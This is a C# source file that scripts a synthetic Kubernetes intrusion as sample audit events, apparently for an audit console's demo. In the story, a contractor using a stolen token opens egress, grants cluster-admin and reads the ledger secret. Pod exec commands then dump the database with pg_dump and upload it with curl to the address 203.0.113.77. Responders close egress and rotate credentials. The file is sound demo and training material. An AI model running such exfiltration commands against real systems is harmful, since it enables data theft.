namespace AuditConsole.Core.Ingestion.Sample.Story;

/// <summary>
/// What a newcomer can find: in the last hours somebody with a partner's account and a stolen credential opens the way out of the payments cluster, looks into the ledger's
/// database, and is stopped. Every step is an event; so are the hints of the days before.
/// </summary>
internal sealed class Incident(SampleScript script, SampleCluster cluster, SampleObject internetEgress)
{
    private readonly SampleObject _guest = new(SampleKind.RoleBinding, "payments", "partner-support")
    {
        Member = "subjects",
        Fixed = [("roleRef", PolicyText.RoleRef("Role", "support"))],
    };

    private readonly SampleObject _debug = new(SampleKind.ClusterRoleBinding, "", "debug-admin")
    {
        Member = "subjects",
        Fixed = [("roleRef", PolicyText.RoleRef("ClusterRole", "cluster-admin"))],
    };

    private readonly SampleObject _secret = new(SampleKind.Secret, "payments", "ledger-db") { Member = "data", Fixed = [("type", "\"Opaque\"")] };
    private readonly SampleObject _pod = new(SampleKind.Pod, "payments", "ledger-6c9f7d4b8-x2x7q");

    public void Write()
    {
        Hints();
        Opening();
        Looking();
        Closing();
    }

    private void Hints()
    {
        script.On(6, "14:02", t => cluster.Change(t, SampleActor.Jonas, _guest, PolicyText.Subjects(SampleActor.Contractor.Name), "CHG-1182: partner support for the payments team, two weeks"));
        script.On(5, "09:20", t => cluster.Change(t, SampleActor.Priya, _secret, PolicyText.Credentials("sample-only")));
        foreach (var clock in new[] { "21:14", "21:15", "21:31" })
        {
            script.On(3, clock, t => cluster.Deny(t, SampleActor.Contractor, _secret, "list", ofCollection: true));
        }

        script.Ago("7:20", t => cluster.Deny(t, SampleActor.Contractor, _secret, "list", ofCollection: true));
        script.Ago("7:19", t => cluster.Deny(t, SampleActor.Contractor, _secret, "get"));
        script.Ago("7:05", t => cluster.Deny(t, SampleActor.Contractor, internetEgress, "patch"));
        script.Ago("7:04", t => cluster.Deny(t, SampleActor.Contractor, _debug, "create"));
    }

    private void Opening()
    {
        script.Ago("6:52", t => cluster.Read(t, SampleActor.StolenJonas, internetEgress));
        script.Ago("6:50", t => cluster.Change(t, SampleActor.StolenJonas, internetEgress, PolicyText.InternetEgress(partners: true, ("0.0.0.0/0", 443)), cause: null, asWhom: "system:admin"));
        script.Ago("6:48", t => cluster.Change(t, SampleActor.StolenJonas, _debug, PolicyText.Subjects(SampleActor.Contractor.Name), cause: null, asWhom: "system:admin"));
    }

    private void Looking()
    {
        script.Ago("6:45", t => cluster.Read(t, SampleActor.Contractor, _secret));
        script.Ago("6:41", t => cluster.Touch(t, SampleActor.Contractor, _pod, "create", "exec", "command=sh&command=-c&command=pg_dump+ledger&container=ledger&stdout=true", 101));
        script.Ago("6:38", t => cluster.Touch(t, SampleActor.Contractor, _pod, "create", "exec", "command=curl&command=-T&command=%2Ftmp%2Fl.gz&command=https%3A%2F%2F203.0.113.77%2Fu&container=ledger", 101));
        script.Ago("6:24", t => cluster.Touch(t, SampleActor.Contractor, _pod, "create", "portforward", "ports=5432", 101));
        script.Ago("6:02", t => cluster.Fail(t, SampleActor.Argo, internetEgress, "update", 409));
        script.Ago("6:01", t => cluster.Fail(t, SampleActor.Argo, internetEgress, "update", 409));
    }

    private void Closing()
    {
        script.Ago("5:47", t => cluster.Read(t, SampleActor.Priya, internetEgress));
        script.Ago("5:44", t => cluster.Read(t, SampleActor.Amelia, internetEgress));
        script.Ago("5:40", t => cluster.TryOut(t, SampleActor.Amelia, internetEgress, PolicyText.InternetEgress(partners: true, null)));
        script.Ago("5:36", t => cluster.Change(t, SampleActor.Amelia, internetEgress, PolicyText.InternetEgress(partners: true, null), "INC-2031: close the way out"));
        script.Ago("5:34", t => cluster.Delete(t, SampleActor.Amelia, _debug));
        script.Ago("5:31", t => cluster.Delete(t, SampleActor.Jonas, _guest));
        script.Ago("5:28", t => cluster.Deny(t, SampleActor.Contractor, _secret, "get"));
        script.Ago("5:20", t => cluster.Change(t, SampleActor.Priya, _secret, PolicyText.Credentials("sample-again"), "INC-2031: database password rotated"));
        script.Ago("5:12", t => script.Note(t, SampleActor.Amelia, cluster, internetEgress, "INC-2031: v" + (internetEgress.Versions - 1) + " let everything out on TCP 443 for 74 minutes. Jonas' token was stolen; it is revoked, the ledger's password is new."));
        script.Ago("5:05", t => CloudLines.Write(t, "iam.access_key.disable", SampleActor.Jonas, ("iam_access_key", "AKIA…7Q2F", "jonas-cli"), "disable", "success", "INC-2031"));
        script.Ago("4:50", t => script.Note(t, SampleActor.Sam, cluster, internetEgress, "Evidence kept for INC-2031: the events from 6:50 to 5:20 hours before now."));
    }
}
